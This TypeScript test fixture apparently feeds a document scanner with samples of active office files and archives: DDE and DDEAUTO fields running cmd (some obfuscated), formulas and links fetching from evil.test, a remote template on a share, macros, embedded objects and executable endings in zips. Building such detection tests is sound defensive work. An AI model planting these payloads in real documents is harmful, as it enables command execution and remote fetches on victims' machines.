import { CHUNK_BYTES } from '@/lib/platform/encryption';
import type { Made } from './active-pdfs';
import { oleOf } from './documents';
import {
  book,
  excel97,
  latin1,
  openLetter,
  openSheet,
  openShow,
  PROGRAM,
  relation,
  richText,
  sheet,
  sheetOf97,
  show,
  word97,
  WORDS,
} from './office-parts';
import { zipOf } from './zips';

/** The mark of an embedded object behind many chunks of the stored file. */
const FAR = ' '.repeat(3 * CHUNK_BYTES);

export const activeDocuments: readonly Made[] = [
  openLetter('with macros', { 'Basic/Standard/M.xml': 'x' }),
  richText('with an object in it', '{\\object{\\objdata 01}}'),
  richText('with an object after many chunks', `${FAR}\\objdata 01`),
  sheet('that asks another program', {
    'xl/externalLinks/externalLink1.xml':
      '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
  }),
  sheet('that fetches when it opens', {
    'xl/connections.xml': '<connections><connection refreshOnLoad="1"/></connections>',
  }),
  sheet('with an object that is loaded by itself', {
    'xl/worksheets/sheet1.xml': '<a><oleObject autoLoad="true"/></a>',
  }),
  sheet('with macros of before', { 'XL/MacroSheets/sheet1.xml': '<a/>' }),
  sheet('with a formula that fetches', {
    'xl/worksheets/sheet1.xml':
      '<a><c><f>IF(1,_xlfn.WEBSERVICE("https://evil.test"),2)</f></c></a>',
  }),
  openSheet('with a formula that asks another program', {
    'styles.xml': '<a><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;1;2)"/></a>',
  }),
  show('with a video from elsewhere', {
    'ppt/slides/_rels/a.rels': relation('video', 'https://evil.test/a.mp4'),
  }),
  openLetter('with an object that listens inside', {
    'Object 1/content.xml': '<a><script:event-listener xlink:href="vnd.sun.star.script:a"/></a>',
  }),
  openLetter('that asks another program', {
    'styles.xml': '<a><text:dde-connection-decl office:dde-application="cmd"/></a>',
  }),
  openSheet('that asks another program', { 'Object 1/content.xml': '<a><office:dde-source/></a>' }),
  openLetter('with an object in capitals', {
    'STYLES.XML': '<draw:image xlink:href="https://evil.test/a"/>',
  }),
  openLetter('with a font from elsewhere', {
    'styles.xml': '<svg:font-face-uri xlink:href="https://evil.test/a.ttf"/>',
  }),
  openLetter('with an object of another program', { 'Object 2': oleOf('\x01Ole10Native') }),
  openLetter('with a document type', { 'meta.xml': '<!DOCTYPE a><a/>' }),
  openShow('with a button that starts a program', {
    'styles.xml': '<presentation:event-listener presentation:action="execute" xlink:href="a.exe"/>',
  }),
  richText('with DDEAUTO', '{\\field{\\*\\fldinst DDEAUTO cmd "/k calc"}{\\fldrslt x}}'),
  richText('with DDEAUTO in groups', '{\\field{\\*\\fldinst {DDE}{\\b AUTO cmd}}{\\fldrslt x}}'),
  richText(
    'with DDEAUTO around what readers skip',
    '{\\field{\\*\\fldinst DDE{\\*\\x x}AUTO cmd}}',
  ),
  richText('with DDEAUTO around a comment', '{\\field{\\*\\fldinst DDE{\\comment x}AUTO cmd}}'),
  richText('with DDEAUTO in codes', "{\\field{\\*\\fldinst \\'44\\'44E\\u65?UTO cmd}}"),
  richText('with DDEAUTO over lines', '{\\field{\\*\\fldinst DDE\nAUTO cmd}}'),
  richText(
    'that fetches a picture',
    '{\\field{\\*\\fldinst INCLUDEPICTURE "https://evil.test/a.png"}}',
  ),
  [
    'rich text with brackets that are missing',
    'brief.rtf',
    () => latin1('{\\rtf1{\\field{\\*\\fldinst DDE cmd'),
  ],
  richText('with a template on a share', '{\\*\\template \\\\\\\\evil.test\\\\a.dotm}'),
  word97('with a program', 'WordDocument', 'ObjectPool/_1/\x01Ole10Native'),
  word97('with an equation', 'WordDocument', 'ObjectPool/_1/Equation Native'),
  word97('with macros in small letters', 'WordDocument', 'macros/vba/dir'),
  word97('with DDEAUTO', ['WordDocument', latin1(`${' '.repeat(600)}\x13 DDEAUTO cmd \x14x\x15`)]),
  word97('with DDEAUTO in UTF-16', [
    'WordDocument',
    Buffer.from(`${' '.repeat(600)}\x13 DDEAUTO cmd \x14x\x15`, 'utf16le'),
  ]),
  excel97('with macros of before', [
    'Workbook',
    book([0x809, Buffer.alloc(16)], [0x85, sheetOf97(1)]),
  ]),
  excel97('that is locked', ['Workbook', book([0x809, Buffer.alloc(16)], [0x2f, Buffer.alloc(6)])]),
  ...[
    'exe',
    'js',
    'lnk',
    'EXE',
    'vbs',
    'bat',
    'docm',
    'lnk.',
    'exe. .',
    'exe:a',
    'iqy',
    'xll',
    'settingcontent-ms',
    'appref-ms',
    'msc',
    'py',
  ].map((ending): Made => [
    `an archive with a ${ending}`,
    'map.zip',
    () => zipOf({ 'brief.txt': WORDS, [`map/cv.${ending}`]: 'x' }),
  ]),
  ['an archive with a program under another ending', 'map.zip', () => zipOf({ 'cv.pdf': PROGRAM })],
];
